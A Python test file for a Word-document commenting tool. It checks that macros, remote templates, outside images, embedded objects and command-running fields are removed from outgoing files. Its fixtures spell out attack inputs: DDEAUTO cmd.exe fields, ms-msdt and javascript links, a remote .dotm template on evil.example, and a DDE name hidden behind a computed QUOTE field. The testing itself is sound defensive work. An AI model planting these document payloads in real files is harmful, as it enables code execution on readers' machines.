"""What acts by itself in a received file does not go to the other side, and is named."""

import io
import re
import zipfile
from collections.abc import Mapping

import pytest

from tests.files.docx_comments.commented_files import BY, commented, part
from tests.files.docx_comments.validator import faults_of
from tests.files.hostile import READ, REFUSED
from tests.files.word_files import docx, p, r, with_files
from zielkreis.files.docx_comments.commenting import comment_docx
from zielkreis.files.docx_comments.wanted import BlockPlace, CommentedFile, WantedComment
from zielkreis.files.drafts import read_document
from zielkreis.files.errors import UnreadableFileError
from zielkreis.files.recognition import looks_like_word

PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
PLAIN_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def link(id: str, kind: str, target: str, *, outside: bool = False, space: str = OFFICE) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="{id}" Type="{space}/{kind}" Target="{target}"{mode}/>'


def with_links(
    data: bytes, links: str, files: Mapping[str, str | bytes] | None = None, of: str = "document"
) -> bytes:
    """The document with more relationships of one of its parts and more files."""
    name = f"word/_rels/{of}.xml.rels"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        empty = f'<Relationships xmlns="{PACKAGE}"/>'
        known = archive.read(name).decode() if name in archive.namelist() else empty
    if known.endswith("/>"):
        known = known[:-2] + "></Relationships>"
    return with_files(
        data, {name: known.replace("</Relationships>", f"{links}</Relationships>"), **(files or {})}
    )


def with_type(types: str, ending: str, content_type: str) -> str:
    return types.replace("</Types>", f'<Default Extension="{ending}" ContentType="{content_type}"/></Types>')


def sent(data: bytes) -> CommentedFile:
    """The file as it goes out with one comment; it must be sound and read as before."""
    made = commented(data, [(0, 4)])
    assert not made.refused
    assert not faults_of(made.data)
    assert read_document(made.data).blocks == read_document(data).blocks
    return made


def names(made: CommentedFile) -> set[str]:
    with zipfile.ZipFile(io.BytesIO(made.data)) as archive:
        return set(archive.namelist())


def everything(made: CommentedFile) -> bytes:
    with zipfile.ZipFile(io.BytesIO(made.data)) as archive:
        return b"\n".join(archive.read(name) for name in archive.namelist())


def test_a_plain_file_loses_nothing() -> None:
    address = link("h1", "hyperlink", "https://example.org/a?b=c", outside=True)
    data = with_links(docx(p("Text ", f'<w:hyperlink r:id="h1">{r("Seite")}</w:hyperlink>')), address)
    made = sent(data)
    assert made.removed == ()
    assert b"https://example.org/a?b=c" in everything(made)


def test_macros_go_with_their_parts_and_the_type_of_the_file() -> None:
    links = link("m1", "vbaProject", "vbaProject.bin", space=MICROSOFT)
    inner = link("d1", "wordVbaData", "vbaData.xml", space=MICROSOFT)
    inner = f'<Relationships xmlns="{PACKAGE}">{inner}</Relationships>'
    data = with_links(
        docx(p("Text")),
        links,
        {
            "word/vbaProject.bin": b"macro",
            "word/vbaData.xml": "<x/>",
            "word/_rels/vbaProject.bin.rels": inner,
        },
    )
    types = part(data, "[Content_Types].xml").decode().replace(PLAIN_MAIN, MACRO_MAIN)
    types = with_type(types, "bin", "application/vnd.ms-office.vbaProject")
    made = sent(with_files(data, {"[Content_Types].xml": types}))
    assert {each for each in names(made) if "vba" in each} == set()
    assert b"vbaProject.bin" not in everything(made)
    assert MACRO_MAIN.encode() not in everything(made)
    assert PLAIN_MAIN.encode() in everything(made)
    assert made.removed[0] == "Makros"


def test_a_remote_template_is_forgotten() -> None:
    data = docx(p("Text"), settings='<w:attachedTemplate r:id="t1"/><w:zoom w:percent="100"/>')
    data = with_links(
        data, link("t1", "attachedTemplate", "https://evil.example/x.dotm", outside=True), of="settings"
    )
    made = sent(data)
    assert b"evil.example" not in everything(made)
    assert b"attachedTemplate" not in everything(made)
    assert b'<w:zoom w:percent="100"/>' in everything(made)
    assert made.removed == ("Verweis auf eine Dokumentvorlage",)


def test_a_picture_from_outside_is_forgotten_and_one_inside_stays() -> None:
    blips = '<a:blip r:embed="i1" r:link="i2"/>'
    body = p(
        "Text", f"<w:r><w:drawing><pic:pic><pic:blipFill>{blips}</pic:blipFill></pic:pic></w:drawing></w:r>"
    )
    links = link("i1", "image", "media/bild.png") + link(
        "i2", "image", "http://evil.example/b.png", outside=True
    )
    data = with_links(docx(body), links, {"word/media/bild.png": b"png"})
    types = part(data, "[Content_Types].xml").decode()
    types = with_type(types, "png", "image/png")
    made = sent(with_files(data, {"[Content_Types].xml": types}))
    assert b"evil.example" not in everything(made)
    assert b'<a:blip r:embed="i1"/>' in part(made.data, "word/document.xml")
    assert "word/media/bild.png" in names(made)
    assert made.removed == ("Bilder von außen",)


def test_an_embedded_object_goes_and_its_picture_stays() -> None:
    body = p(
        "Text",
        '<w:r><w:object><v:shape><v:imagedata r:id="i1"/></v:shape>'
        '<o:OLEObject Type="Embed" ProgID="Excel.Sheet.12" r:id="o1"/></w:object></w:r>',
    )
    links = link("i1", "image", "media/bild.xml") + link("o1", "oleObject", "embeddings/a.xml")
    made = sent(
        with_links(docx(body), links, {"word/media/bild.xml": "<x/>", "word/embeddings/a.xml": "<x/>"})
    )
    assert b"OLEObject" not in part(made.data, "word/document.xml")
    assert b'<v:imagedata r:id="i1"/>' in part(made.data, "word/document.xml")
    assert "word/embeddings/a.xml" not in names(made)
    assert "word/media/bild.xml" in names(made)
    assert made.removed == ("eingebettete Objekte (ihr Bild bleibt)",)


@pytest.mark.parametrize(
    "address", ["file:///c:/x.exe", r"\\server\x.doc", "javascript:x()", "ms-msdt:/id", "x.exe"]
)
def test_a_link_to_a_file_or_program_keeps_its_words_only(address: str) -> None:
    data = with_links(
        docx(p("Text ", f'<w:hyperlink r:id="h1" w:history="1">{r("Anlage")}</w:hyperlink>')),
        link("h1", "hyperlink", address, outside=True),
    )
    made = sent(data)
    assert address.encode() not in everything(made)
    assert made.removed == ("Verweise auf Dateien oder Programme (ihr Text bleibt)",)


def field(instruction: str, result: str) -> str:
    step = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    says = "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in instruction.split("|"))
    return f"{step.format('begin')}{says}{step.format('separate')}{r(result)}{step.format('end')}"


@pytest.mark.parametrize(
    "instruction",
    [
        "DDEAUTO c:\\\\cmd.exe /c",
        " ddeauto x ",
        "INCL|UDETEXT \\\\\\\\server\\\\x.doc",
        "LINK Excel.Sheet.8 x",
        'INCLUDEPICTURE "http://evil.example/x.png" \\d',
        'HYPERLINK "file://x"',
        'HYPERLINK "\\\\\\\\server\\\\x.exe" \\o "Tipp"',
        "HYPERLINK \\\\server\\x.exe",
        "\tDDE\u00a0a",
        "DATABASE \\d x",
    ],
)
def test_a_field_that_fetches_or_runs_something_keeps_its_result_only(instruction: str) -> None:
    data = docx(p("Text ", field(instruction, "Ergebnis"), " Ende"))
    made = sent(data)
    body = part(made.data, "word/document.xml")
    assert b"instrText" not in body
    assert b"fldChar" not in body
    assert b"Ergebnis" in body
    assert len(made.removed) == 1
    simple = docx(p("Text ", f'<w:fldSimple w:instr=" DDE a b ">{r("Ergebnis")}</w:fldSimple>'))
    assert b"fldSimple" not in part(sent(simple).data, "word/document.xml")


def test_a_field_whose_name_another_field_computes_is_dissolved() -> None:
    inner = field("QUOTE 68 68 69", "DDE")
    step = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    rest = f"<w:r><w:instrText> c: </w:instrText></w:r>{step.format('separate')}"
    outer = f"{step.format('begin')}{inner}{rest}{r('Ergebnis')}{step.format('end')}"
    made = sent(docx(p("Text ", outer, " Ende")))
    assert b"QUOTE" not in part(made.data, "word/document.xml")
    assert b"Ergebnis" in part(made.data, "word/document.xml")


@pytest.mark.parametrize(
    "instruction",
    [
        "PAGE",
        "REF ziel \\h",
        'HYPERLINK "https://example.org"',
        'HYPERLINK \\l "Ziel"',
        "TOC \\o",
        "HYPERLINK",
    ],
)
def test_other_fields_stay(instruction: str) -> None:
    data = docx(p("Text ", field(instruction, "Ergebnis"), " Ende"))
    made = sent(data)
    assert made.removed == ()
    assert instruction.replace('"', "&quot;").encode() in part(made.data, "word/document.xml") or (
        instruction.encode() in part(made.data, "word/document.xml")
    )


def test_mail_merge_controls_menus_add_ins_and_signatures_go() -> None:
    settings = '<w:mailMerge><w:query w:val="SELECT * FROM x"/><w:dataSource r:id="q1"/></w:mailMerge>'
    data = docx(
        p("Text", '<w:r><w:object><v:shape/><w:control r:id="c1"/></w:object></w:r>'), settings=settings
    )
    data = with_links(data, link("q1", "mailMergeSource", "file:///x.mdb", outside=True), of="settings")
    data = with_links(data, link("c1", "control", "activeX/a.xml"), {"word/activeX/a.xml": "<x/>"})
    root = part(data, "_rels/.rels").decode()
    more = (
        link("u1", "ui/extensibility", "customUI/customUI.xml", space=MICROSOFT)
        + link("w1", "webextensiontaskpanes", "word/webextensions/taskpanes.xml", space=MICROSOFT)
        + link("s1", "digital-signature/origin", "_xmlsignatures/origin.xml")
    )
    extra = ("customUI/customUI.xml", "word/webextensions/taskpanes.xml", "_xmlsignatures/origin.xml")
    files = {"_rels/.rels": root.replace("</Relationships>", f"{more}</Relationships>")}
    made = sent(with_files(data, {**files, **dict.fromkeys(extra, "<x/>")}))
    assert not names(made) & {*extra, "word/activeX/a.xml"}
    assert not re.search(b"mailMerge|w:control|taskpanes|customUI|x.mdb", everything(made))
    assert len(made.removed) == 5


@pytest.mark.parametrize("name", REFUSED)
def test_a_file_that_is_refused_to_readers_gets_no_comments(name: str) -> None:
    make, _ = REFUSED[name]
    wanted = [WantedComment(places=(BlockPlace(block=0, start=0, end=1),), paragraphs=("x",))]
    with pytest.raises(UnreadableFileError):
        comment_docx(make(), wanted, by=BY)


@pytest.mark.parametrize("name", [name for name, (make, _) in READ.items() if looks_like_word(make())])
def test_what_a_reader_names_as_loading_or_starting_something_is_gone(name: str) -> None:
    make, words = READ[name]
    data = make()
    made = sent(data)
    acts = bool(words) and not words.startswith("‹")
    assert words in " ".join(read_document(data).notes)
    assert bool(made.removed) == acts or name == "archives in archives"
    assert not acts or words not in " ".join(read_document(made.data).notes)


def test_programs_beside_the_parts_of_word_are_left_out() -> None:
    bad = {"word/x.exe": b"MZ", "word/media/a.lnk": b"L", "word/vbaProject.bin": b"x"}
    loose = {"word/embeddings/a.xml": b"<x/>", "[trash]/0000.dat": b"x"}
    made = sent(with_files(docx(p("Text")), {**bad, **loose}))
    assert not names(made) & {*bad, *loose}
    assert set(made.removed) == {"Programme (3-mal)", "Einträge, zu denen kein Verweis führt (2-mal)"}


@pytest.mark.parametrize("body", ['<w:altChunk r:id="a1"/>', p('<w:subDoc r:id="a1"/>')])
def test_a_file_that_shows_text_of_another_file_is_refused(body: str) -> None:
    links = link("a1", "aFChunk", "afchunk.xml")
    data = with_links(docx(p("Text") + body), links, {"word/afchunk.xml": "<x/>"})
    made = commented(data, [(0, 4)])
    assert made.data == b""
    assert len(made.refused) == 1
